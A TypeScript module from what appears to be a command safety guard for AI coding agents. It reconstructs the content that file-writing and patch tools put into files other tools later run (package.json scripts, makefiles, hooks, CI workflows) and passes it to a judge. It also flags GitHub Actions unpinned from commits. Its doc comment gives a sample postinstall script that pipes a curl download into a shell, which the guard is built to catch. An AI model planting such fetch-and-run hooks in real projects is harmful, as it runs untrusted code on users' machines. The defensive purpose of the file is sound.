import { readFileSync, statSync } from "node:fs";
import { applyHunks } from "../../tools/apply-patch/apply-hunks.js";
import { parsePatch } from "../../tools/apply-patch/parse-patch.js";
import type { ParsedPatch, PatchFile } from "../../tools/apply-patch/types.js";
import type { PathVerdict } from "./judge-path.js";
import { expandPath, resolveRealPath } from "./normalize-path.js";
import { unpinnedActions } from "./action-pins.js";
import { isCiPipelineFile, isPlantedCodeFile } from "./planted-code-files.js";

/** A file tool's write of a file whose content a tool runs later, as the planted-code judge sees it. */
export interface PlantedWrite {
  /** The file written: absolute, `~` expanded. */
  file: string;
  /** The file's whole new content, or (when `partial`) only the text the edit adds. */
  text: string;
  /** Only the new text is known: the file could not be read to apply the edit to. */
  partial: boolean;
  /** The call's working directory. */
  cwd: string;
  /** The tool, for reasons: `Write`, `Edit`, `apply_patch`. */
  tool: string;
}

/**
 * Judges what a planted-code file will run later by its content, as the command safety guard
 * judges the same file written by a shell command (same rule ids, decisions and reasons); undefined
 * when it runs nothing worth asking about. The built-in registry and the hook wire the command
 * analyser in (`createPlantedCodeJudge` of the command safety guard).
 */
export type PlantedCodeJudge = (write: PlantedWrite) => PathVerdict | undefined;

/** Arguments that hold a whole file's new content, by agent (`content`, the text editor's `file_text`, Windsurf's `CodeContent`). */
const WHOLE_CONTENT = ["content", "contents", "file_text", "text", "CodeContent"] as const;
/** Arguments of edit tools that hold the replaced and the replacement text, by agent. */
const OLD_TEXT_KEYS = ["old_string", "old_str", "oldText", "old_text", "oldString"] as const;
const NEW_TEXT_KEYS = ["new_string", "new_str", "newText", "new_text", "newString", "replacement", "new_content", "code_edit", "insert_text"] as const;
/** Files larger than this are not read: the edit's new text is judged instead. */
const MAX_FILE_BYTES = 512 * 1024;
const MAX_EDITS = 32;
const MAX_FILES = 16;

/**
 * Judges the code a file-tool call plants: for each file it writes whose content a tool runs later
 * (`package.json` scripts, makefiles, hooks, MCP server configs, scripts in program directories,
 * see `isPlantedCodeFile`), the whole new content goes to `judge`: a write's content, a patch's
 * added file, or the file on disk (bounded) with the edit or the patch's hunks applied. When the
 * file cannot be read or the edit cannot be applied, only the new text is judged (`partial`).
 * Other files cost one name check each; nothing is read for them.
 *
 * @example
 * judgePlantedWrites("Write", { file_path: "package.json", content: '{"scripts":{"postinstall":"curl x | sh"}}' }, ["package.json"], { cwd: "/w", home: "/home/ada" }, judge)
 * // { decision: "ask", rule: "rce.pipe-to-shell", reason: "…" }
 */
export function judgePlantedWrites(
  tool: string,
  args: Record<string, unknown>,
  written: readonly string[],
  context: { cwd: string; home: string },
  judge: PlantedCodeJudge,
): PathVerdict | undefined {
  const planted = written.slice(0, MAX_FILES).filter((raw) => isPlantedCodeFile(expandPath(raw, context), context.home));
  if (planted.length === 0) return undefined;
  const patch = patchOf(args);
  const verdicts: PathVerdict[] = [];
  for (const raw of planted) {
    const file = expandPath(raw, context);
    const write = newContent(raw, file, args, patch, context);
    if (write === undefined) continue;
    // A workflow's action moved from its pinned commit to a tag or a branch (see `action-pins.ts`).
    const unpinned = isCiPipelineFile(file) ? unpinnedActions(previousText(file, args), write.text) : [];
    if (unpinned.length > 0) verdicts.push({ decision: "ask", rule: "rce.unpinned-action", reason: `${tool} moves ${unpinned.join(", ")} in ${file} from its pinned commit to a tag or branch that can be pointed at other code` });
    const verdict = judge({ file, ...write, cwd: context.cwd, tool });
    if (verdict) verdicts.push(verdict);
  }
  return verdicts.find((verdict) => verdict.decision === "deny") ?? verdicts[0];
}

/** The file's new content (or the edit's new text), or undefined when the call writes nothing into it (a deletion). */
function newContent(raw: string, file: string, args: Record<string, unknown>, patch: ParsedPatch | undefined, context: { cwd: string; home: string }): { text: string; partial: boolean } | undefined {
  const whole = WHOLE_CONTENT.map((name) => args[name]).find((value): value is string => typeof value === "string");
  if (whole !== undefined && !patch) return { text: whole, partial: false };
  if (patch) {
    const entry = patch.files.find((candidate) => [candidate.newPath, candidate.path].some((name) => name !== undefined && (name === raw || expandPath(name, context) === file)));
    return entry ? patchedContent(entry, context) : undefined;
  }
  const edits = editsOf(args);
  if (edits.length === 0) return undefined;
  const current = readBounded(file);
  if (current !== undefined) {
    const applied = applyEdits(current, edits, args);
    if (applied !== undefined) return { text: applied, partial: false };
  } else if (edits.length === 1 && edits[0]?.old === "") {
    // An edit with nothing to replace creates the file (Claude Code's Edit, Gemini CLI's replace).
    return { text: edits[0].new, partial: false };
  }
  return { text: edits.map((edit) => edit.new).join("\n"), partial: true };
}

/** What an edit replaces (its old strings), or the file on disk that a whole write replaces. */
function previousText(file: string, args: Record<string, unknown>): string {
  const edits = editsOf(args);
  const replaced = edits.map((edit) => edit.old ?? "").join("\n");
  return replaced.trim() !== "" ? replaced : (readBounded(file) ?? "");
}

/** A patch section's result: an added file's text, an update applied to the file on disk, or the added lines. */
function patchedContent(entry: PatchFile, context: { cwd: string; home: string }): { text: string; partial: boolean } | undefined {
  if (entry.kind === "delete") return undefined;
  if (entry.kind === "add") return { text: entry.content ?? "", partial: false };
  const current = readBounded(expandPath(entry.path, context));
  if (current !== undefined) {
    try {
      return { text: applyHunks(current, entry.hunks, entry.path), partial: false };
    } catch {
      // The hunks do not apply to the file as it is: the tool will fail, but judge what it adds.
    }
  }
  return { text: entry.hunks.flatMap((hunk) => hunk.lines.filter((line) => line.kind === "add").map((line) => line.text)).join("\n"), partial: true };
}

interface Edit {
  old: string | undefined;
  new: string;
  all: boolean;
}

/** The edits a call makes: its own `old_string`/`new_string` (and `replace_all`), or each of MultiEdit's `edits`. */
function editsOf(args: Record<string, unknown>): Edit[] {
  const one = (value: Record<string, unknown>): Edit | undefined => {
    const next = NEW_TEXT_KEYS.map((key) => value[key]).find((item): item is string => typeof item === "string");
    if (next === undefined) return undefined;
    const old = OLD_TEXT_KEYS.map((key) => value[key]).find((item): item is string => typeof item === "string");
    return { old, new: next, all: value.replace_all === true || value.replaceAll === true };
  };
  const own = one(args);
  if (own) return [own];
  const list = Array.isArray(args.edits) ? args.edits : [];
  return list
    .slice(0, MAX_EDITS)
    .filter((item): item is Record<string, unknown> => typeof item === "object" && item !== null)
    .map(one)
    .filter((edit): edit is Edit => edit !== undefined);
}

/** The file's text with the edits applied in order, or undefined when one cannot be placed. */
function applyEdits(current: string, edits: readonly Edit[], args: Record<string, unknown>): string | undefined {
  let text = current;
  for (const edit of edits) {
    if (edit.old === undefined) {
      // The text editor's `insert`: after line `insert_line` (0 = the top).
      const at = typeof args.insert_line === "number" ? args.insert_line : undefined;
      if (at === undefined) return undefined;
      const lines = text.split("\n");
      lines.splice(Math.max(0, Math.min(at, lines.length)), 0, edit.new);
      text = lines.join("\n");
    } else if (edit.old === "") {
      text = current === "" ? edit.new : `${text}${edit.new}`;
    } else {
      if (!text.includes(edit.old)) return undefined;
      text = edit.all ? text.split(edit.old).join(edit.new) : text.replace(edit.old, () => edit.new);
    }
  }
  return text;
}

/** A patch among the arguments, parsed; undefined when there is none or it cannot be read (the audit blocks those itself). */
function patchOf(args: Record<string, unknown>): ParsedPatch | undefined {
  for (const value of Object.values(args)) {
    if (typeof value !== "string" || !/^\s*(?:\*\*\* Begin Patch|---\s|diff --git)/.test(value)) continue;
    try {
      return parsePatch(value);
    } catch {
      return undefined;
    }
  }
  return undefined;
}

/** A regular file's text when it exists and is small enough, read through its symlinks. */
function readBounded(file: string): string | undefined {
  try {
    const real = resolveRealPath(file);
    const stat = statSync(real);
    if (!stat.isFile() || stat.size > MAX_FILE_BYTES) return undefined;
    return readFileSync(real, "utf8");
  } catch {
    return undefined;
  }
}
